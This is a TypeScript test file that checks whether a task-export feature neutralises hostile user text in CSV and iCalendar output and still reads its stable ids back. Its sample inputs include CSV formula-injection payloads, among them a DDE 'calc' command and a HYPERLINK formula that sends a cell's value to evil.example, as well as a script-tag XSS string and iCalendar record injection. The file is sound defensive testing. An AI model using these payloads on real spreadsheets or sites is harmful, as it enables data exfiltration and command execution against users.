/** Hostile words in every place a person can write them, through every target, and back by the stable ids (OUT-2). */
import type { PlainDate } from '@tenure/domain/kernel/dates.ts';
import { NO_IDS } from '@tenure/infrastructure/exports/id-map/id-map.ts';
import { type ReadBack, readBack } from '@tenure/infrastructure/exports/import/read-back.ts';
import { renderExport } from '@tenure/infrastructure/exports/render.ts';
import type { ExportSource } from '@tenure/infrastructure/exports/source.ts';
import { DEFAULT_OPTIONS } from '@tenure/infrastructure/exports/target.ts';
import fc from 'fast-check';
import * as E from 'fp-ts/lib/Either.js';
import ICAL from 'ical.js';
import { describe, expect, it } from 'vitest';
import { aSource, aTask, BELIEVABLE, HOSTILE, PLAY } from './a-source.ts';
import {
  CSV_TARGETS,
  type CsvName,
  ID,
  keptLine,
  keptNotes,
  keptText,
  NOTES,
  rowsOf,
  TITLE,
  unquoted,
} from './kept.ts';

const OTHER = `${PLAY.replace('01a1', '01a2')}/task/t01`;
const WORDS: readonly string[] = [
  ...HOSTILE,
  `He said ""twice"", 'once'\u201d`,
  '"',
  '""\r\n"",""\r\n',
  '\r',
  '\n',
  "=cmd|' /C calc'!A0\n=2+2",
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  '\t@SUM(1+1)',
  `\u202e${'gnirts'}\u202c and \u2066isolated\u2069 \u200fright`,
  'flags 🇪🇺🏴󠁧󠁢󠁥󠁮󠁧󠁿, family 👩‍👩‍👧‍👦, skin 👍🏽, é and e\u0301',
  'one\u2028two\u2029three\u0085four\u000bfive\u000csix',
  '\ufeffwith a mark',
  '\u0000=1+1',
  'two halves \ud83d\u0000\ude00 are no whole',
  '\ud800\udc00 whole, \udc00\ud800 turned around',
  `x\nTenure id: ${OTHER}`,
  `Tenure id: ${OTHER}\r\n  Tenure id: ${OTHER}  \r\n`,
  `x\n\u00a0Tenure id: ${OTHER}\n> Tenure id: ${OTHER}`,
  'BEGIN:VEVENT\r\nUID:evil\r\nEND:VEVENT',
  'END:VCALENDAR\n;VALUE=DATE:20260101\\n\\,\\;',
  'one line '.repeat(5_000),
  'many\nlines, "quoted"\n'.repeat(2_000),
  '</textarea><script>alert(1)</script>',
];

/** The words wherever somebody may write them; ids and dates are never anybody's words. */
const filled = (words: string, task = words): ExportSource => {
  const person = { id: words, name: words };
  const [escalation] = BELIEVABLE.escalations;
  const [milestone] = BELIEVABLE.milestones;
  const [checkpoint] = BELIEVABLE.checkpoints;
  if (escalation === undefined || milestone === undefined || checkpoint === undefined) throw new Error('too little');
  const targets = [{ role: 'cro', person } as const];
  return aSource(
    [
      aTask({ id: 't01', title: task, deliverable: words, owner: person, fallback: person, deliverableUri: words }),
      aTask({ id: 't02', title: words, deliverable: task, dependsOn: ['t01'], status: 'completed' }),
    ],
    {
      account: { id: words, name: words },
      milestones: [{ ...milestone, title: words }],
      checkpoints: [{ ...checkpoint, owner: person }],
      escalations: [{ ...escalation, ruleName: words, reason: words, targets, requiredResponse: words }],
    },
  );
};

const NOT_STORED = /(?![\n\t])\p{Cc}/u;
const FOOTER = /^\s*Tenure id: /m;
const idsOf = (source: ExportSource, target: CsvName): readonly string[] => [
  ...source.escalations.map(({ id }) => `${PLAY}/escalation/${id}`),
  ...source.tasks.map(({ id }) => `${PLAY}/task/${id}`),
  ...(target === 'csv' ? [`${PLAY}/milestone/m01`, `${PLAY}/checkpoint/cp-01`] : []),
];

const survivesCsv = (target: CsvName, source: ExportSource): void => {
  const { files, preflight } = renderExport(target, source, NO_IDS, DEFAULT_OPTIONS);
  const rows = rowsOf(files[0]?.content ?? '');
  expect(rows.map((row) => row[ID[target]])).toEqual(idsOf(source, target));
  const cells = rows.flatMap((row) => Object.values(row));
  expect(cells.filter((cell) => NOT_STORED.test(cell) || !cell.isWellFormed())).toEqual([]);
  if (target === 'csv') expect(cells.filter((cell) => /^[=+\-@＝＋－＠\t\r\n]/.test(cell))).toEqual([]);
  const said = (cell: string | undefined): string => (target === 'csv' ? unquoted(cell ?? '') : (cell ?? ''));
  const limit = target === 'salesforce' || target === 'jira' ? 255 : Number.POSITIVE_INFINITY;
  for (const task of source.tasks) {
    const row = rows.find((each) => each[ID[target]] === `${PLAY}/task/${task.id}`);
    const [title, notes] = [said(row?.[TITLE[target]]), row?.[NOTES[target]] ?? ''];
    const whole = keptLine(task.title);
    if (whole.length <= limit) expect(title).toBe(whole);
    else expect(whole.startsWith(title.slice(0, -1))).toBe(true);
    // Once, and last: whatever else the description holds.
    expect(notes.match(new RegExp(FOOTER, 'gm'))).toHaveLength(1);
    expect(notes.endsWith(`\nTenure id: ${PLAY}/task/${task.id}`)).toBe(true);
    const deliverable = keptNotes(task.deliverable);
    const wasCut = preflight.warnings.some((each) => each.startsWith(`task ${task.id}: ${NOTES[target]} was cut`));
    if (deliverable !== '' && !wasCut) expect(notes).toContain(`Deliverable: ${deliverable}\n`);
    if (wasCut) expect([target, notes.length <= 32_000]).toEqual(['salesforce', true]);
    if (target !== 'csv' || row === undefined) continue;
    expect(said(row.deliverable)).toBe(keptText(task.deliverable));
    expect([row.owner, row.owner_key, row.deliverable_uri].map(said)).toEqual(
      [task.owner?.name, task.owner?.id, task.deliverableUri].map((each) => keptLine(each ?? '')),
    );
    expect([row.account, row.account_key].map(said)).toEqual([
      ...[keptLine(source.account.name), keptLine(source.account.id)],
    ]);
  }
};

const survivesCalendar = (source: ExportSource): void => {
  const content = renderExport('icalendar', source, NO_IDS, DEFAULT_OPTIONS).files[0]?.content ?? '';
  expect(content.split('\r\n').filter((each) => Buffer.byteLength(each) > 75 || /[\r\n]/.test(each))).toEqual([]);
  expect(content.isWellFormed() && !/(?![\r\n\t])\p{Cc}/u.test(content)).toBe(true);
  const all = new ICAL.Component(ICAL.parse(content)).getAllSubcomponents();
  const text = (index: number, name: string): string => String(all[index]?.getFirstPropertyValue(name));
  expect(all.map((each) => each.name)).toEqual(['vevent', 'vevent', 'vtodo', 'vtodo', 'vtodo']);
  expect(new Set(all.map((_, index) => text(index, 'uid'))).size).toBe(all.length);
  source.tasks.forEach((task, index) => {
    expect(text(index + 3, 'summary')).toBe(`${keptLine(source.account.name)}: ${keptLine(task.title)}`);
    const notes = text(index + 3, 'description');
    expect(notes.match(new RegExp(FOOTER, 'gm'))).toHaveLength(1);
    expect(notes.endsWith(`\n\nTenure id: ${PLAY}/task/${task.id}`)).toBe(true);
    const deliverable = keptNotes(task.deliverable);
    if (deliverable !== '') expect(notes).toContain(`Deliverable: ${deliverable}\n`);
  });
};

/** As a tool gives a file back: other line ends, quotes around everything, only some of the columns. */
const givenBack = (target: CsvName, source: ExportSource, columns: readonly string[]): ReadBack => {
  const { files } = renderExport(target, source, NO_IDS, DEFAULT_OPTIONS);
  const rows = rowsOf(files[0]?.content ?? '').map((row) => ({ ...row, 'Completed At': '' }));
  const cells = rows.map((row) => columns.map((name) => (row as Readonly<Record<string, string>>)[name] ?? ''));
  const text = [columns, ...cells]
    .map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(','))
    .join('\n');
  const options = { order: null, alsoDone: [], today: '2026-11-23' as PlainDate };
  const read = readBack(new TextEncoder().encode(text), target, options);
  if (E.isLeft(read)) throw new Error(read.left);
  return read.right;
};
const STATUS: Readonly<Record<CsvName, string>> = {
  ...{ salesforce: 'Status', hubspot: 'hs_task_status', asana: 'Completed At' },
  ...{ jira: 'Status', linear: 'Status', csv: 'status' },
};

const comesBack = (target: CsvName, source: ExportSource): void => {
  const ids = idsOf(source, target);
  for (const columns of [
    [ID[target], TITLE[target], NOTES[target], STATUS[target]],
    [TITLE[target], NOTES[target], STATUS[target]],
  ]) {
    const { said, flaws, rows } = givenBack(target, source, columns);
    expect([rows, flaws]).toEqual([ids.length, []]);
    expect(said.map(({ playId, kind, id }) => `${playId}/${kind}/${id}`)).toEqual(ids);
    expect(said.filter(({ done }) => done).map(({ id }) => id)).toEqual(target === 'asana' ? [] : ['t02']);
  }
};

/** Pieces that mean something to some format, in any order. */
const anything = fc
  .array(
    fc.oneof(
      fc.constantFrom(...'"\',;:\\\r\n\t=+-@＝|', '\r\n', '\u0000', '\u001b', '\u0085', '\u2028', '\ufeff', '\u202e'),
      fc.constantFrom('Tenure id: ', `Tenure id: ${OTHER}`, '\nTenure id: ', 'END:VEVENT', '\ud83d', '\ude00', '👩‍👧'),
      fc.string({ unit: 'binary', maxLength: 8 }),
    ),
    { maxLength: 12 },
  )
  .map((pieces) => pieces.join(''));

describe.each(CSV_TARGETS)('OUT-2: %s', (target) => {
  it.each(WORDS.map((words) => [JSON.stringify(words).slice(0, 60), words] as const))(
    'keeps %s everywhere by its rules, and gives every id back',
    (_, words) => {
      survivesCsv(target, filled(words));
      comesBack(target, filled(words));
    },
  );

  it('keeps whatever anybody writes, and gives every id back', () => {
    fc.assert(
      fc.property(anything, anything, (words, task) => {
        survivesCsv(target, filled(words, task));
        comesBack(target, filled(words, task));
      }),
      { numRuns: 60 },
    );
  });
});

describe('OUT-2: icalendar', () => {
  it.each(WORDS.map((words) => [JSON.stringify(words).slice(0, 60), words] as const))('keeps %s', (_, words) =>
    survivesCalendar(filled(words)),
  );

  it('keeps whatever anybody writes', () => {
    fc.assert(
      fc.property(anything, anything, (words, task) => survivesCalendar(filled(words, task))),
      { numRuns: 60 },
    );
  });
});

describe('OUT-2: the pre-flight tells what became of words', () => {
  const warnings = (source: ExportSource, target: CsvName | 'icalendar' = 'jira'): readonly string[] =>
    renderExport(target, source, NO_IDS, DEFAULT_OPTIONS).preflight.warnings;
  const about = (source: ExportSource, part: string): readonly string[] =>
    warnings(source).flatMap((each) => (each.includes(part) ? [each.split(':')[0] ?? ''] : []));
  const EVERYTHING = ['the account', 'task t01', 'task t02', 'milestone m01', 'checkpoint cp-01', 'escalation esc-01'];

  it('wherever characters were taken out', () => {
    expect(about(filled('a\u0007b'), 'taken out')).toEqual(EVERYTHING);
    expect(about(filled('half \ud83d'), 'taken out')).toEqual(EVERYTHING);
    expect(about(filled('plain'), 'taken out')).toEqual([]);
  });

  it('wherever lines became one', () => {
    expect(about(filled('a\nb'), 'became spaces')).toEqual(EVERYTHING);
    expect(about(filled(' a'), 'became spaces')).toEqual(EVERYTHING);
    expect(about(filled('a b'), 'became spaces')).toEqual([]);
  });

  it('wherever a text looked like a stable id', () => {
    const false_ = filled('plain', `x\nTenure id: ${OTHER}`);
    expect(about(false_, 'looks like the stable id')).toEqual(['task t02']);
    expect(warnings(false_, 'icalendar').join('\n')).toContain('task t02: a line that looks like the stable id');
    expect(about(filled('plain'), 'looks like the stable id')).toEqual([]);
  });
});
